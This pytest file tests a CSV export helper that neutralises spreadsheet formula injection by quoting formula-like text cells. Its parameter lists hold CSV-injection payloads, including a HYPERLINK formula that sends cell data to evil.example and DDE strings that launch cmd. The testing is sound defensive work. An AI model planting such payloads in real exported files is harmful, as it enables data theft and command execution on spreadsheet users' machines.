"""CSV injection: every exported table neutralises formula-like text cells (OWASP), numbers stay numbers."""
import numpy as np
import pandas as pd
import pytest

from analysis.io import FLOAT_FORMAT, neutralise_formulas, safe_cell, write_csv_atomic


@pytest.mark.parametrize("text", ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "@SUM(A1:A9)",
                                  "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "\tTAB", "\rCR", "-", "+ 51 999"])
def test_formula_like_text_gets_a_leading_quote(text):
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["Juan Pérez", "'=already quoted", " =leading space", "a=b", "-0.5", "+3", "-12",
                                   "-1e-05", "", None, np.nan, -8, -0.1169719258])
def test_plain_text_numbers_and_numbers_as_text_are_left_alone(value):
    assert safe_cell(value) is value


def test_written_csv_has_neutralised_text_and_unchanged_numbers(tmp_path):
    df = pd.DataFrame({"name": ['=HYPERLINK("http://x","y")', "@SUM(1)", "Ana", "\tTab"],
                       "note": ["+cmd", "@cmd", "-0.5", "ok"],
                       "gap": [-8, 3, -1, 0], "estimate": [-0.1169719258, 0.5, -2.0, np.nan]})
    raw = df.copy()
    write_csv_atomic(df, tmp_path / "t.csv")
    text = (tmp_path / "t.csv").read_text(encoding="utf-8")
    assert text == ('name,note,gap,estimate\n'
                    '"\'=HYPERLINK(""http://x"",""y"")",\'+cmd,-8,-0.1169719258\n'
                    "'@SUM(1),'@cmd,3,0.5\n"
                    "Ana,-0.5,-1,-2\n"
                    "'\tTab,ok,0,\n")
    back = pd.read_csv(tmp_path / "t.csv")
    assert back["gap"].tolist() == [-8, 3, -1, 0] and back["estimate"].iloc[0] == -0.1169719258
    pd.testing.assert_frame_equal(df, raw)  # the frame in memory keeps the raw text


def test_labels_and_index_are_neutralised(tmp_path):
    df = pd.DataFrame({"=cmd": [1], "ok": ["x"]}, index=pd.Index(["@risk"], name="dep"))
    write_csv_atomic(df, tmp_path / "t.csv", index=True)
    assert (tmp_path / "t.csv").read_text(encoding="utf-8") == "dep,'=cmd,ok\n'@risk,1,x\n"


def test_categorical_and_string_dtypes(tmp_path):
    df = pd.DataFrame({"c": pd.Categorical(["=1+1", "a", "=1+1"]), "s": pd.array(["-x", "y", None], dtype="string")})
    out = neutralise_formulas(df)
    assert out["c"].tolist() == ["'=1+1", "a", "'=1+1"]
    assert out["s"].tolist()[:2] == ["'-x", "y"] and pd.isna(out["s"].iloc[2])
    assert neutralise_formulas(pd.DataFrame({"t": ["\rCR"]}))["t"].tolist() == ["'\rCR"]


def test_normal_frame_round_trip_is_byte_identical(tmp_path):
    df = pd.DataFrame({"victim_id": ["V0001", "V0002"], "department": ["Puno", "Apurímac"],
                       "gap": [-8, 2], "rate": [-0.25, 1 / 3], "flag": [True, False],
                       "date": pd.to_datetime(["2022-12-15", "2023-01-09"]), "note": ["-0.5", None]})
    assert neutralise_formulas(df) is df
    write_csv_atomic(df, tmp_path / "new.csv")
    df.to_csv(tmp_path / "old.csv", index=False, lineterminator="\n", encoding="utf-8", float_format=FLOAT_FORMAT)
    assert (tmp_path / "new.csv").read_bytes() == (tmp_path / "old.csv").read_bytes()
